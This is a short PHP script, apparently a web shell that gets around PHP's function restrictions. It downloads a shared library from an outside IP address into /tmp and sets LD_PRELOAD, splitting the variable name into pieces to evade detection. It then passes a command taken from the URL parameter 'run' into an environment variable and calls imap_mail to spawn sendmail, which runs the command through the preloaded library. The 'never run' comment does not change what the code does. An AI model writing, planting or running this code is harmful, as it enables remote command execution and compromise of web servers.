<?php
// probe (never run): the library is downloaded, preloaded, and imap_mail starts sendmail
$lib = '/tmp/' . md5(__FILE__) . '.so';
copy('http://203.0.113.8/x64.so', $lib);
$p = 'LD'; $p .= '_PRE'; $p .= 'LOAD';
putenv("$p=$lib");
putenv('CMDLINE=' . $_GET['run']);
imap_mail('a@localhost', '', '');
